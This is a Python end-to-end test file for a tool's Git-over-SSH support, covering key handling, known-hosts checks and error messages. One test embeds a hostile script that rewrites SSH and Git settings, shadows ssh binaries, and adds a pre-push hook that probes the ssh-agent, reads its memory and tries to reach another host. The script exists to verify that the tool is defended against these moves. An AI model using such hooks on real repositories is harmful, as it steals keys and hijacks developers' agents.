"""Git over SSH: OpenSSH's own server as the remote, and a repository that would like to have the key."""

import hashlib
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.end_to_end.test_git import Project
from tests.support.server import Server, wait_for
from tests.support.ssh_remote import SshRemote, repository_over_ssh

pytestmark = pytest.mark.engine


@pytest.fixture(scope="module")
def remote() -> Iterator[SshRemote]:
    with repository_over_ssh() as remote:
        yield remote


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("ssh")
    folder.chmod(0o755)
    with Server(folder, "docker") as server:
        yield server


@pytest.fixture(scope="module")
def client(server: Server) -> Iterator[httpx.Client]:
    with server.client() as client:
        client.put("/api/git/identity", json={"name": "Ada", "email": "ada@example.org"}).raise_for_status()
        yield client


def ended_clone(client: httpx.Client, id: str) -> dict[str, Any]:
    def ended() -> dict[str, Any] | None:
        step: dict[str, Any] = client.get(f"/api/projects/{id}/status").json()["steps"][0]
        return step if step["name"] == "clone" and step["state"] != "running" else None

    return wait_for("the clone", ended)


def ssh_key(client: httpx.Client) -> dict[str, str]:
    key: dict[str, str] = client.get("/api/git").raise_for_status().json()["sshKey"]
    return key


@pytest.fixture(scope="module")
def project(server: Server, client: httpx.Client, remote: SshRemote) -> Project:
    """Cloned with a key that was made by the server."""
    made = client.put("/api/git/ssh-key", json={}).raise_for_status()
    assert "PRIVATE" not in made.text and "PRIVATE" not in client.get("/api/git").text
    assert (server.folder / "data" / "git.json").stat().st_mode & 0o777 == 0o600
    id = client.post("/api/projects", json={"source": remote.url}).raise_for_status().json()["id"]
    step = ended_clone(client, id)
    key = ssh_key(client)
    assert step["state"] == "failed" and f"does not take the SSH key {key['fingerprint']}" in step["detail"]
    remote.authorize(key["publicKey"])
    project = Project(server, client, id)
    project.post("/clone", url=remote.url)
    step = ended_clone(client, id)
    assert step["state"] == "done", step["detail"]
    return project


def commit(project: Project, text: str) -> None:
    project.write("README.md", text)
    project.post("/stage", paths=["README.md"])
    project.post("/commit", message=text.strip())


def test_a_clone_pushes_and_pulls_and_keeps_no_trace_of_the_key(
    server: Server, project: Project, remote: SshRemote
) -> None:
    assert project.read("README.md") == "cloned\n"
    commit(project, "mine\n")
    project.post("/push")
    assert remote.run("git --git-dir repo.git log -1 --format=%s%an main") == "mineAda\n"
    remote.run(
        "rm -rf theirs; git clone -q repo.git theirs; cd theirs; echo theirs >README.md;"
        "git -c user.name=B -c user.email=b@b commit -qam Theirs; git push -q"
    )
    project.post("/pull")
    assert project.read("README.md") == "theirs\n"

    kept = json.loads((server.folder / "data" / "git.json").read_text())["sshKey"]["private"]
    places = f"grep -rlF {kept.splitlines()[3]} . /tmp ~"
    traces = project.shell(f"echo $({places} | wc -l) $(pgrep -c 'ssh|git') $(ls /tmp | grep -c ^tmp) end")
    assert "\r0 0 0 end\r" in traces


def test_a_host_with_another_key_is_not_spoken_with(client: httpx.Client, project: Project, remote: SshRemote) -> None:
    (known,) = client.get("/api/git").json()["knownHosts"]
    assert known["host"] == remote.host
    shown = remote.serve()
    refused = project.ask("/fetch")
    problem = refused.json()
    assert (refused.status_code, problem["reason"], problem["host"]) == (409, "hostkey", remote.host)
    assert shown in problem["detail"] and known["fingerprints"][0] in problem["detail"]
    client.delete(f"/api/git/known-hosts/{remote.host}").raise_for_status()
    project.post("/fetch")
    (known,) = client.get("/api/git").json()["knownHosts"]
    assert known["fingerprints"] == [shown]


FLAKE = "{}"
# What runs in the container by the project's will while a key is lent: programs named in Git's settings, in ssh's, in
# the environment, and a hook, which finds the agent. `taken` has what they saw, `entered` what they could do elsewhere.
HOSTILE = """
mkdir -p ~/.ssh /tmp/evil; printf 'Host *\\n ProxyCommand touch /tmp/taken\\n' >~/.ssh/config; chmod 600 ~/.ssh/config
git config core.sshCommand 'cat >/tmp/taken; ssh'; git config ssh.variant simple
git config protocol.ext.allow always; git config --add remote.origin.pushurl {url}
git config --add remote.origin.pushurl 'ext::sh -c "touch /tmp/taken"'
for program in ssh ssh-add ssh-agent; do printf '#!/bin/sh\\ncat >/tmp/taken\\n' >/tmp/evil/$program; done
chmod +x /tmp/evil/*; echo 'PATH=/tmp/evil:$PATH GIT_SSH_COMMAND=ssh' >/var/lib/hutch/environments/{script}.sh
cat >.git/hooks/pre-push <<'END'
#!/bin/sh
for agent in /tmp/tmp.*/agent; do
  SSH_AUTH_SOCK=$agent /usr/bin/ssh-add -l >>/tmp/held
  cat /proc/$(pgrep -x ssh-agent)/mem >>/tmp/read
  for port in {port} {other}; do
    /usr/bin/ssh -F /dev/null -oBatchMode=yes -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null \\
      -oIdentityAgent=$agent -p $port hutch@{address} echo $port >>/tmp/entered </dev/null
  done
done
exit 0
END
chmod +x .git/hooks/pre-push
"""


def test_a_hostile_repository_gets_neither_key_nor_agent_for_elsewhere(
    client: httpx.Client, project: Project, remote: SshRemote
) -> None:
    project.write("flake.nix", FLAKE)
    script = hashlib.sha256(FLAKE.encode() + bytes(1)).hexdigest()
    hostile = HOSTILE
    for name, value in {**vars(remote), "url": remote.url, "script": script}.items():
        hostile = hostile.replace(f"{{{name}}}", str(value))
    project.write("hostile.sh", hostile)
    project.shell("sh hostile.sh; rm hostile.sh")
    commit(project, "hostile\n")
    refused = project.ask("/push")
    assert refused.status_code == 409 and "transport 'ext' not allowed" in refused.json()["detail"]
    assert remote.run("git --git-dir repo.git log -1 --format=%s main") == "hostile\n"
    seen = project.shell("cat /tmp/held /tmp/entered; wc -c /tmp/read; ls /tmp")
    # The hook did find the agent, and could use it where the push went, but not at the other host.
    assert ssh_key(client)["fingerprint"] in seen
    assert f"\n{remote.port}\r" in seen and f"\n{remote.other}\r" not in seen
    assert "0 /tmp/read" in seen and "taken" not in seen


def test_what_is_wrong_is_told_in_a_sentence(client: httpx.Client, project: Project, remote: SshRemote) -> None:
    project.shell("rm -rf .git ~/.ssh; : >$HUTCH_ENV; git init -qb main")
    for url, sentence in (
        ("ssh://git@no-host.invalid/a.git", "no-host.invalid"),
        (f"ssh://git@{remote.address}:1/a.git", "nothing takes connections"),
        (remote.url.replace("repo.git", "none.git"), "does not appear to be a git repository"),
    ):
        project.post("/remote", url=url)
        refused = project.ask("/fetch")
        assert refused.status_code == 409 and sentence in refused.json()["detail"], refused.text
    project.post("/remote", url=remote.url)
    client.delete("/api/git/ssh-key").raise_for_status()
    refused = project.ask("/fetch").json()
    assert refused["reason"] == "sshkey" and "none is kept" in refused["detail"]
